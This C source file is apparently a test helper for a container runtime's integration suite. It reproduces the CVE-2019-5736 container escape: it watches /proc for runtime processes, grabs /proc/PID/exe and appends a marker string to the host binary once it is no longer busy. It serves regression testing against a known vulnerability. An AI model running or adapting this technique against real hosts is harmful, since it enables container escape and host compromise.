/*
 * exe-attack: CVE-2019-5736's attack on a container runtime, run inside a container by
 * IntegrationTests/HostBinaryTests. Built there with `cc -static`, since the busybox image has no libc.
 *
 *   exe-attack LOG STOPFILE
 *
 * Watches /proc for any process whose executable is not this image's (busybox) nor this program:
 * a runtime process that has not reached its execve yet, or one the kernel started from the runtime's
 * binary through an entry point of `#!/proc/self/exe`. It takes an O_PATH descriptor to that process's
 * /proc/PID/exe, waits until the process is gone and no longer executes the file (ETXTBSY), then
 * reopens the descriptor for writing through /proc/self/fd/N and appends bytes to it: on a vulnerable
 * runtime, to the host's binary. Until STOPFILE exists (or a minute has passed); one line per event
 * in LOG:
 *
 *   denied PID ERRNO            /proc/PID/exe could not be read (a process that is not dumpable)
 *   exe PID LINK SEALS          what /proc/PID/exe named, and F_GET_SEALS of it (-ERRNO if none)
 *   wrote PID N | write-failed PID ERRNO | open-failed PID ERRNO
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX_SEEN 4096

static FILE *logfile;

/* Pids already attacked, and pids already logged as denied (tried again: they may exec). */
struct pid_set {
    int pids[MAX_SEEN];
    int count;
};
static struct pid_set attacked, denied;

static int contains(const struct pid_set *set, int pid)
{
    for (int i = 0; i < set->count; i++)
        if (set->pids[i] == pid)
            return 1;
    return 0;
}

static void add(struct pid_set *set, int pid)
{
    if (set->count < MAX_SEEN)
        set->pids[set->count++] = pid;
}

static int is_own_image(const char *link)
{
    static char self[4096];
    if (!self[0] && readlink("/proc/self/exe", self, sizeof self - 1) < 0)
        return 0;
    return strcmp(link, self) == 0 || strcmp(link, "/bin/busybox") == 0;
}

/* Running, not a zombie: a zombie no longer holds its executable. */
static int process_alive(int pid)
{
    char path[64], stat[512];
    snprintf(path, sizeof path, "/proc/%d/stat", pid);
    FILE *f = fopen(path, "r");
    if (!f)
        return 0;
    size_t n = fread(stat, 1, sizeof stat - 1, f);
    fclose(f);
    stat[n] = 0;
    const char *end = strrchr(stat, ')');
    return end && end[1] == ' ' && end[2] != 'Z';
}

static void say(const char *format, ...)
{
    va_list args;
    va_start(args, format);
    vfprintf(logfile, format, args);
    va_end(args);
    fflush(logfile);
}

/* The attack on one process: the descriptor is taken while it runs, the write tried once it is gone. */
static void attack(int pid)
{
    char path[64], link[4096];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    int fd = open(path, O_PATH | O_CLOEXEC);
    if (fd < 0) {
        if ((errno == EACCES || errno == EPERM) && !contains(&denied, pid)) {
            add(&denied, pid);
            say("denied %d %d\n", pid, errno);
        }
        return;
    }
    char self_fd[64];
    snprintf(self_fd, sizeof self_fd, "/proc/self/fd/%d", fd);
    ssize_t n = readlink(self_fd, link, sizeof link - 1);
    link[n > 0 ? n : 0] = 0;
    if (is_own_image(link)) {
        close(fd);
        return;
    }
    add(&attacked, pid);
    int readable = open(self_fd, O_RDONLY | O_CLOEXEC);
    int seals = readable >= 0 ? fcntl(readable, F_GET_SEALS) : -1;
    say("exe %d %s %d\n", pid, link, seals >= 0 ? seals : -errno);
    if (readable >= 0)
        close(readable);

    while (process_alive(pid))
        usleep(1000);
    /* Other processes may still execute the file (the runtime on the host): wait them out. */
    int wfd = -1;
    for (int tries = 0; tries < 5000; tries++) {
        wfd = open(self_fd, O_WRONLY | O_APPEND | O_CLOEXEC);
        if (wfd >= 0 || errno != ETXTBSY)
            break;
        usleep(1000);
    }
    if (wfd < 0) {
        say("open-failed %d %d\n", pid, errno);
    } else {
        ssize_t wrote = write(wfd, "exe-attack was here\n", 20);
        if (wrote < 0)
            say("write-failed %d %d\n", pid, errno);
        else
            say("wrote %d %zd\n", pid, wrote);
        close(wfd);
    }
    close(fd);
}

int main(int argc, char **argv)
{
    if (argc != 3) {
        fprintf(stderr, "usage: exe-attack LOG STOPFILE\n");
        return 2;
    }
    logfile = fopen(argv[1], "a");
    if (!logfile)
        return 1;
    say("watching %d\n", getpid());
    int self = getpid();
    time_t deadline = time(NULL) + 60;
    while (access(argv[2], F_OK) != 0 && time(NULL) < deadline) {
        DIR *proc = opendir("/proc");
        if (!proc)
            return 1;
        struct dirent *entry;
        while ((entry = readdir(proc)) != NULL) {
            int pid = atoi(entry->d_name);
            if (pid <= 0 || pid == self || contains(&attacked, pid))
                continue;
            attack(pid);
        }
        closedir(proc);
    }
    say("done\n");
    return 0;
}
